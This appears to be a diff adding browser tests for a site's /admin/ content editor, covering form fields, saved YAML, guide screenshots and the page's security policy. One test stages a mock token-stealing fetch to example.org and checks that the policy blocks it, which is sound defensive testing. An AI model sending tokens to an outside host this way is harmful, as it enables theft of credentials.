@@ -1,0 +1,402 @@
+"""The browser editor at /admin/ of the built site, in Chromium, as a therapist uses it.
+
+GitHub cannot be reached from here, so the editor runs in its local-repository mode: it works
+on a folder through the browser's File System Access API, and `window.showDirectoryPicker`
+(the folder picker, the one thing a test cannot click through) returns a folder of the
+browser's origin-private file system that the test filled with `.git/` and the seed exercises.
+The editor itself lists them, opens the form, and writes the YAML file with its own code; the
+test reads that file back and runs the generator on it. No GitHub API is faked: signing in and
+pull requests are not exercised here (the guide describes them).
+
+The screenshots in the guide (overrides/assets/images/guide/) are taken here, from the real
+editor, each time the suite runs.
+"""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from generator.editor import GITHUB_API
+from generator.schema import Example, Exercise, PracticeLog, Source, Step
+from tests.conftest import ROOT, read_page, run_generator
+
+from .conftest import DESKTOP, Requests, origin_of
+
+pytestmark = pytest.mark.browser
+
+GUIDE_IMAGES = ROOT / "overrides" / "assets" / "images" / "guide"
+EXERCISES = "content/exercises"
+PICKER = """
+window.showDirectoryPicker = async () => {
+  const root = await navigator.storage.getDirectory();
+  return root.getDirectoryHandle('repository', { create: true });
+};
+"""
+WRITE = """async (files) => {
+  const root = await navigator.storage.getDirectory();
+  const repository = await root.getDirectoryHandle('repository', { create: true });
+  for (const [path, text] of Object.entries(files)) {
+    const parts = path.split('/');
+    let folder = repository;
+    for (const part of parts.slice(0, -1)) {
+      folder = await folder.getDirectoryHandle(part, { create: true });
+    }
+    const file = await folder.getFileHandle(parts.at(-1), { create: true });
+    const out = await file.createWritable();
+    await out.write(text);
+    await out.close();
+  }
+}"""
+READ = """async (path) => {
+  let folder = await (await navigator.storage.getDirectory()).getDirectoryHandle('repository');
+  const parts = path.split('/');
+  for (const part of parts.slice(0, -1)) folder = await folder.getDirectoryHandle(part);
+  return (await (await folder.getFileHandle(parts.at(-1))).getFile()).text();
+}"""
+VIOLATIONS = """
+window.policyViolations = [];
+document.addEventListener('securitypolicyviolation',
+  (event) => window.policyViolations.push(`${event.violatedDirective} ${event.blockedURI}`));
+"""
+# What the end-to-end test types, one value for every field of the model.
+NEW: dict[str, Any] = {
+    "title": "Evening Wind-down",
+    "subtitle": "Ten quiet minutes together before sleep",
+    "summary": "Sit together for ten minutes before sleep, lights low, phones away.",
+    "difficulty": "easy",
+    "recommended": True,
+    "source": {"book": "attached", "insight": 3},
+    "tags": ["couples"],
+    "outcome": "Calmer evenings and an easier time falling asleep.",
+    "principles": ["Rest is something you share."],
+    "steps_title": "Wind down together",
+    "steps": [{"title": "Dim the lights.", "body": "Turn off the screens and the big lights."}],
+    "examples": [{"title": "Ana and Joe", "story": "They tried it for a week of late shifts."}],
+    "reflection_questions": ["What helped you settle tonight?"],
+    "tips": ["Keep it short on busy days."],
+    "background": "Shared routines help couples co-regulate before sleep.",
+    "practice_log": {"days": 5, "columns": ["How calm I felt"]},
+    "related": ["secure-base-strategy"],
+}
+
+
+def seed_files() -> dict[str, str]:
+    files = {f"{EXERCISES}/{path.name}": path.read_text(encoding="utf-8")
+             for path in sorted((ROOT / EXERCISES).glob("*.yaml"))}
+    files[".git/HEAD"] = "ref: refs/heads/main\n"
+    return files
+
+
+class Editor:
+    """One browser context on /admin/, recording requests, console errors and CSP reports."""
+
+    def __init__(self, browser, site_url: str):
+        self.context = browser.new_context(viewport=DESKTOP, locale="en-US")
+        self.requests = Requests(origin_of(site_url))
+        self.requests.attach(self.context)
+        self.network: list[str] = []
+        self.context.route("**/*", self._boundary)
+        self.context.add_init_script(PICKER)
+        self.context.add_init_script(VIOLATIONS)
+        self.page = self.context.new_page()
+        self.errors: list[str] = []
+        self.page.on("console", self._console)
+        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
+        self.url = site_url + "admin/"
+
+    def _console(self, message) -> None:
+        if message.type == "error":
+            self.errors.append(message.text)
+
+    def _boundary(self, route) -> None:
+        """Every request that would reach the network (those sw.js answers never get here)."""
+        self.network.append(route.request.url)
+        route.fallback()
+
+    def open(self) -> None:
+        self.page.goto(self.url)
+        self.page.get_by_role("button", name="Work with Local Repository").wait_for()
+
+    def open_local_repository(self, files: dict[str, str]) -> None:
+        self.open()
+        self.page.evaluate(WRITE, files)
+        self.page.get_by_role("button", name="Work with Local Repository").click()
+        self.page.get_by_role("button", name="New").wait_for()
+
+    def field(self, path: str):
+        """A field of the form by its key path (`steps.0.title`). The editor draws the fields
+        of a long form as they scroll into view, so the form is scrolled until it is there."""
+        found = self.page.locator(f'[data-key-path="{path}"]')
+        self.page.mouse.move(DESKTOP["width"] // 4, DESKTOP["height"] // 2)
+        for _ in range(40):
+            if found.count():
+                break
+            self.page.mouse.wheel(0, DESKTOP["height"] // 2)
+            self.page.wait_for_timeout(100)
+        found.scroll_into_view_if_needed()
+        return found
+
+    def write(self, path: str, text: str) -> None:
+        self.field(path).get_by_role("textbox").fill(text)
+
+    def add_item(self, path: str) -> None:
+        self.field(path).get_by_role("button", name=re.compile(r"^Add\b")).last.click()
+
+    def read(self, path: str) -> str:
+        return self.page.evaluate(READ, path)
+
+    def close(self) -> None:
+        self.context.close()
+
+
+@pytest.fixture
+def editor(browser, site_url):
+    opened = Editor(browser, site_url)
+    yield opened
+    opened.close()
+
+
+def fill_every_field(editor: Editor) -> None:
+    """Type NEW into the new-exercise form, the way a person would."""
+    page = editor.page
+    editor.write("title", NEW["title"])
+    editor.write("subtitle", NEW["subtitle"])
+    editor.write("summary", NEW["summary"])
+    editor.field("difficulty").get_by_role("radio", name="Easy").check()
+    editor.field("recommended").get_by_role("switch").click()
+    editor.field("source").get_by_role("checkbox", name=re.compile("Add")).check()
+    editor.field("source.book").get_by_role("radio", name="Attached").check()
+    editor.field("source").get_by_role("spinbutton", name="Insight").fill("3")
+    editor.field("tags").get_by_role("combobox").click()
+    page.get_by_role("option", name="For couples").click()
+    editor.write("outcome", NEW["outcome"])
+    editor.add_item("principles")
+    editor.write("principles.0", NEW["principles"][0])
+    editor.write("steps_title", NEW["steps_title"])
+    editor.add_item("steps")
+    editor.write("steps.0.title", NEW["steps"][0]["title"])
+    editor.write("steps.0.body", NEW["steps"][0]["body"])
+    editor.add_item("examples")
+    editor.write("examples.0.title", NEW["examples"][0]["title"])
+    editor.write("examples.0.story", NEW["examples"][0]["story"])
+    editor.add_item("reflection_questions")
+    editor.write("reflection_questions.0", NEW["reflection_questions"][0])
+    editor.add_item("tips")
+    editor.write("tips.0", NEW["tips"][0])
+    editor.write("background", NEW["background"])
+    editor.field("practice_log").get_by_role("checkbox", name=re.compile("Add")).check()
+    editor.field("practice_log").get_by_role("spinbutton", name="Days").fill("5")
+    editor.add_item("practice_log.columns")
+    editor.write("practice_log.columns.0", NEW["practice_log"]["columns"][0])
+    editor.field("related").get_by_role("checkbox", name="The Secure Base Strategy").check()
+
+
+def test_editor_asks_no_other_host_and_logs_no_error(editor):
+    editor.open()
+    page = editor.page
+    page.wait_for_load_state("networkidle")
+    families = page.evaluate("""async () => { await document.fonts.ready;
+        return [...document.fonts].filter(f => f.status === 'loaded').map(f => f.family); }""")
+    assert {"Source Sans 3", "Material Symbols Outlined"} <= {f.strip("'\"") for f in families}
+    local = [url for url in editor.network if editor.requests.is_local(url)]
+    assert any(url.endswith("/admin/sveltia-cms.js") for url in local)
+    assert [url for url in editor.network if not editor.requests.is_local(url)] == []
+    # The page did ask for the CDN's fonts and the update check: sw.js answered them.
+    assert any("cdn.jsdelivr.net" in url for _, url in editor.requests.seen)
+    assert editor.errors == []
+    assert page.evaluate("window.policyViolations") == []
+
+
+def test_page_carries_the_policy_and_the_policy_is_enforced(editor, site_dir):
+    html = (site_dir / "admin" / "index.html").read_text(encoding="utf-8")
+    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
+    assert policy, "admin/index.html has no Content-Security-Policy"
+    directives = {d.split()[0]: d.split()[1:] for d in policy.group(1).split("; ")}
+    assert directives["script-src"][0] == "'self'"
+    assert all(src.startswith("https://unpkg.com/immutable@") and src.endswith(".js")
+               for src in directives["script-src"][1:])
+    foreign = [src for src in directives["connect-src"]
+               if src.startswith("https://") and src != GITHUB_API]
+    assert all(re.fullmatch(r"https://[^/]+/.+\.json", src) for src in foreign), foreign
+    assert "unsafe-eval" not in policy.group(1)
+    editor.open()
+    blocked = editor.page.evaluate("""() => fetch('https://example.org/steal?token=x')
+        .then(() => 'sent', () => 'blocked')""")
+    assert blocked == "blocked"
+    assert any("example.org" in v for v in editor.page.evaluate("window.policyViolations"))
+
+
+def _groups(scope) -> list[str]:
+    names = scope.get_by_role("group").evaluate_all(
+        "els => els.map(e => e.getAttribute('aria-label') || '')")
+    return [re.sub(r"[\u2068\u2069“”]", "", name).removesuffix(" Field")
+            for name in names if name.endswith("Field")]
+
+
+def _labels(model) -> list[str]:
+    return [name.replace("_", " ").capitalize() for name in model.model_fields]
+
+
+def test_new_exercise_form_shows_every_field_of_the_model(editor):
+    editor.open_local_repository(seed_files())
+    editor.page.get_by_role("button", name="New").click()
+    form = editor.page.get_by_role("group", name=re.compile("Content$")).first
+    for name in Exercise.model_fields:
+        editor.field(name)
+    shown = _groups(form)
+    top = [label for label in shown if label in _labels(Exercise)]
+    assert top == _labels(Exercise), "the form's fields are not the model's, in its order"
+    for path, model in (("source", Source), ("practice_log", PracticeLog)):
+        editor.field(path).get_by_role("checkbox", name=re.compile("Add")).check()
+        assert _groups(editor.field(path)) == _labels(model)
+    for path, model in (("steps", Step), ("examples", Example)):
+        editor.add_item(path)
+        assert _groups(editor.field(path)) == _labels(model)
+    # Markdown boxes offer only what the page renders: no headings, images or code blocks.
+    toolbar = editor.field("summary").get_by_role("toolbar", name="Text Editor")
+    assert toolbar.get_by_role("button", name="Bold").is_visible()
+    assert toolbar.get_by_role("button", name="Image").count() == 0
+    marked = {name: editor.field(name).inner_text().splitlines()[1] == "*"
+              for name in Exercise.model_fields}
+    assert marked == {name: info.is_required() for name, info in Exercise.model_fields.items()}
+
+
+def test_an_exercise_made_in_the_editor_passes_check_and_builds(editor, project, artifacts):
+    editor.open_local_repository(seed_files())
+    page = editor.page
+    GUIDE_IMAGES.mkdir(parents=True, exist_ok=True)
+    page.get_by_role("button", name="New").click()
+    fill_every_field(editor)
+    page.locator('[data-key-path="title"]').scroll_into_view_if_needed()
+    preview = page.frame_locator("iframe").first
+    headings = preview.locator("h1, h2").all_inner_texts()
+    assert headings == [NEW["title"], "What You'll Achieve", "Key principles",
+                        NEW["steps_title"], "Example", "Reflection Questions",
+                        "Personalization Tips", "Practice log", "Background",
+                        "Related exercises"], "the preview is not laid out like the page"
+    page.screenshot(path=GUIDE_IMAGES / "editor-form.png", animations="disabled")
+    page.get_by_role("button", name="Save").click()
+    page.get_by_text("Entry saved").wait_for()
+    # The list as it stays: the message gone, the pointer away from every button.
+    page.get_by_text("Entry saved").wait_for(state="hidden")
+    page.mouse.move(DESKTOP["width"] // 2, DESKTOP["height"] - 1)
+    page.evaluate("() => document.activeElement && document.activeElement.blur()")
+    page.screenshot(path=GUIDE_IMAGES / "editor-saved.png", animations="disabled")
+    written = editor.read(f"{EXERCISES}/evening-wind-down.yaml")
+    (artifacts / "editor-written.yaml").write_text(written, encoding="utf-8")
+    assert yaml.safe_load(written) == NEW
+    (project / EXERCISES / "evening-wind-down.yaml").write_text(written, encoding="utf-8")
+    checked = run_generator(project, "check")
+    assert checked.returncode == 0, checked.stderr
+    run_generator(project, "site", check=True)
+    page_html = read_page(project / "site", "exercises/evening-wind-down/")
+    text = re.sub(r"<[^>]+>", " ", page_html)
+    text = " ".join(text.replace("&#39;", "'").replace("&amp;", "&").split())
+    for value in _strings(NEW):
+        assert value in text, f"{value!r} is not on the built page"
+    for heading in ("What You'll Achieve", "Key principles", NEW["steps_title"], "Example",
+                    "Reflection Questions", "Personalization Tips", "Practice log",
+                    "Background", "Related exercises"):
+        assert heading in text
+    assert editor.errors == []
+    assert editor.page.evaluate("window.policyViolations") == []
+    assert [url for url in editor.network if not editor.requests.is_local(url)] == []
+
+
+def _strings(value) -> list[str]:
+    if isinstance(value, dict):
+        return [s for key, v in value.items() if key not in ("book", "related", "tags",
+                                                            "difficulty") for s in _strings(v)]
+    if isinstance(value, list):
+        return [s for v in value for s in _strings(v)]
+    return [value] if isinstance(value, str) else []
+
+
+def test_signing_in_asks_for_a_token_with_the_rights_the_guide_names(editor):
+    """The token dialog, as the guide shows it (its screenshot is taken here). Nothing is typed:
+    signing in would need GitHub."""
+    editor.open()
+    editor.page.get_by_role("button", name="Sign In Using Access Token").click()
+    dialog = editor.page.get_by_role("alertdialog", name="Sign In Using Access Token")
+    dialog.wait_for()
+    # No focus ring: whether the box shows one depends on how focus arrived, run by run.
+    dialog.get_by_role("textbox", name="Personal Access Token").evaluate("box => box.blur()")
+    editor.page.wait_for_load_state("networkidle")
+    editor.page.wait_for_function("""async () => { await document.fonts.ready;
+        return document.getAnimations().every(a => a.playState !== 'running'); }""")
+    GUIDE_IMAGES.mkdir(parents=True, exist_ok=True)
+    editor.page.screenshot(path=GUIDE_IMAGES / "editor-sign-in.png", animations="disabled")
+    assert "pull requests" in dialog.inner_text()
+    link = dialog.get_by_role("link").get_attribute("href") or ""
+    assert "contents=write" in link and "pull_requests=write" in link
+    assert [url for url in editor.network if not editor.requests.is_local(url)] == []
+
+
+def test_the_guide_shows_the_screenshots_taken_here():
+    guide = (ROOT / "content/pages/guide/adding-an-exercise.md").read_text(encoding="utf-8")
+    shown = re.findall(r'<img src="\.\./\.\./assets/images/guide/([^"]+)"', guide)
+    assert shown == ["editor-sign-in.png", "editor-form.png", "editor-saved.png"]
+    assert all((GUIDE_IMAGES / name).is_file() for name in shown)
+
+
+def test_the_form_catches_mistakes_before_saving(editor):
+    editor.open_local_repository(seed_files())
+    page = editor.page
+    page.get_by_role("button", name="New").click()
+    editor.field("source").get_by_role("checkbox", name=re.compile("Add")).check()
+    editor.field("source").get_by_role("spinbutton", name="Insight").fill("9")
+    editor.field("practice_log").get_by_role("checkbox", name=re.compile("Add")).check()
+    editor.field("practice_log").get_by_role("spinbutton", name="Days").fill("15")
+    page.get_by_role("button", name="Save").click()
+    for name in ("title", "summary", "difficulty", "steps"):
+        assert "This field is required." in editor.field(name).inner_text(), name
+    assert "It must be between 1 and 8." in editor.field("source").inner_text()
+    assert "It must be between 1 and 14." in editor.field("practice_log").inner_text()
+    assert page.get_by_text("Entry saved").count() == 0
+    files = page.evaluate("""async () => {
+        const repository = await (await navigator.storage.getDirectory())
+            .getDirectoryHandle('repository');
+        const folder = await (await repository.getDirectoryHandle('content'))
+            .getDirectoryHandle('exercises');
+        const names = [];
+        for await (const name of folder.keys()) names.push(name);
+        return names.sort(); }""")
+    assert files == sorted(Path(name).name for name in seed_files() if name.startswith(EXERCISES))
+
+
+
+@pytest.mark.parametrize("slug", [p.stem for p in sorted((ROOT / EXERCISES).glob("*.yaml"))])
+def test_saving_a_seed_keeps_every_value_and_one_change_changes_one(editor, project, artifacts,
+                                                                    slug):
+    """What the editor does to a file it saves: it drops the `# yaml-language-server` comment,
+    writes the keys in the form's order (the model's), lists as one item per line, long text
+    on one line (quoted where YAML needs it) and `recommended: false` when it was left out.
+    The generator reads all of that the same; every value stays as it was."""
+    editor.open_local_repository(seed_files())
+    page = editor.page
+    original = (ROOT / EXERCISES / f"{slug}.yaml").read_text(encoding="utf-8")
+    page.get_by_text(yaml.safe_load(original)["title"], exact=True).click()
+    editor.field("title").get_by_role("textbox").wait_for()
+    before = Exercise.model_validate(yaml.safe_load(original))
+    page.get_by_role("button", name="Save").click()
+    page.get_by_text("Entry saved").wait_for()
+    unchanged = editor.read(f"{EXERCISES}/{slug}.yaml")
+    (artifacts / f"editor-unchanged-{slug}.yaml").write_text(unchanged, encoding="utf-8")
+    assert Exercise.model_validate(yaml.safe_load(unchanged)) == before
+    page.get_by_text("Entry saved").wait_for(state="hidden")
+    page.get_by_text(before.title, exact=True).click()
+    editor.write("subtitle", "A new subtitle, typed in the editor")
+    page.get_by_role("button", name="Save").click()
+    page.get_by_text("Entry saved").wait_for()
+    written = editor.read(f"{EXERCISES}/{slug}.yaml")
+    (artifacts / f"editor-saved-{slug}.yaml").write_text(written, encoding="utf-8")
+    after = Exercise.model_validate(yaml.safe_load(written))
+    assert after == before.model_copy(update={"subtitle": "A new subtitle, typed in the editor"})
+    (project / EXERCISES / f"{slug}.yaml").write_text(written, encoding="utf-8")
+    checked = run_generator(project, "check")
+    assert checked.returncode == 0, checked.stderr
